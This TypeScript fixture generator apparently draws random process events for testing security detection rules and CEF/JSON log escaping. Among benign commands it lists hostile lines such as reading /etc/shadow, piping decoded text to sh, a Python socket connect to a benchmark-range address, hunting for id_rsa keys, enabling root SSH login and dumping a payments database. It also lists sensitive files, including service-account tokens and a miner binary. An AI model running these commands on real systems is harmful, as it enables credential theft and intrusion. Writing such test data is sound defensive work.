import type { Random } from './random.ts'

/** A process that was started: its name and its whole command line. */
export type Command = { readonly name: string; readonly line: string }

// Command lines that CEF has to escape and JSON too: equals signs, pipes, backslashes, quotes.
const COMMANDS: readonly ((random: Random) => Command)[] = [
  () => ({ name: 'bash', line: 'bash' }),
  () => ({ name: 'sh', line: 'sh -c id' }),
  ({ whole }) => ({
    name: 'curl',
    line: `curl -s -o /dev/null https://api.internal.example.com/v1/items?id=${whole(1, 99_999)}&full=true`,
  }),
  () => ({ name: 'cat', line: 'cat /etc/shadow' }),
  ({ whole }) => ({ name: 'sh', line: `sh -c "echo $HOSTNAME | base64 -d | sh; sleep ${whole(1, 60)}"` }),
  ({ whole }) => ({
    name: 'python3',
    line: `python3 -c import os,pty,socket;s=socket.socket();s.connect(('198.51.100.${whole(1, 254)}',${whole(1024, 65_535)}))`,
  }),
  () => ({
    name: 'apk',
    line: 'apk add --no-cache --repository=https://dl-cdn.alpinelinux.org/alpine/edge/testing nmap',
  }),
  ({ whole }) => ({ name: 'find', line: `find / -name "id_rsa*" -maxdepth ${whole(2, 9)}` }),
  () => ({ name: 'ps', line: 'ps auxww' }),
  () => ({ name: 'ls', line: 'ls -la /var/run/secrets/kubernetes.io/serviceaccount' }),
  ({ whole }) => ({
    name: 'java',
    line: `java -Xmx${whole(1, 8)}g -Dspring.profiles.active=prod -Dlog.dir=/var/log/app -jar /app/app.jar --server.port=${whole(8000, 9000)}`,
  }),
  () => ({
    name: 'sed',
    line: String.raw`sed -i s|^PermitRootLogin.*|PermitRootLogin\ yes| /etc/ssh/sshd_config`,
  }),
  () => ({
    name: 'mysqldump',
    line: 'mysqldump --user=root --password=xxxxx --host=db.payments.svc --single-transaction orders',
  }),
  ({ whole }) => ({
    name: 'node',
    line: `node --max-old-space-size=${whole(256, 4096)} /srv/app/dist/server.js`,
  }),
]

/** One command in a hundred has a line feed in it, one in a hundred text that is not ASCII. */
export function drawCommand(random: Random): Command {
  const command = random.pick(COMMANDS)(random)
  const odd = random.next()
  if (odd < 0.01) return { ...command, line: `${command.line}\nexit 0` }
  if (odd < 0.02) return { ...command, line: `${command.line} # проверка конфигурации` }
  return command
}

/** Files that rules look at. */
export const FILES: readonly string[] = [
  '/etc/shadow',
  '/etc/passwd',
  '/root/.ssh/authorized_keys',
  '/usr/bin/curl',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/etc/ld.so.preload',
  '/proc/1/environ',
  '/tmp/.x/a=b',
  '/usr/local/bin/xmrig',
  '/var/lib/app/data/segment-000123.db',
]

export const drawPid = (random: Random): number => random.whole(1000, 4_194_303)
export const drawParentPid = (random: Random): number => random.whole(1, 4_194_303)
/** An ephemeral port of Linux. */
export const drawClientPort = (random: Random): number => random.whole(30_000, 60_999)
/** An address outside the cluster, of the range that RFC 2544 sets apart for benchmarks. */
export const drawRemoteAddress = (random: Random): string =>
  `198.${random.whole(18, 19)}.${random.whole(0, 255)}.${random.whole(1, 254)}`
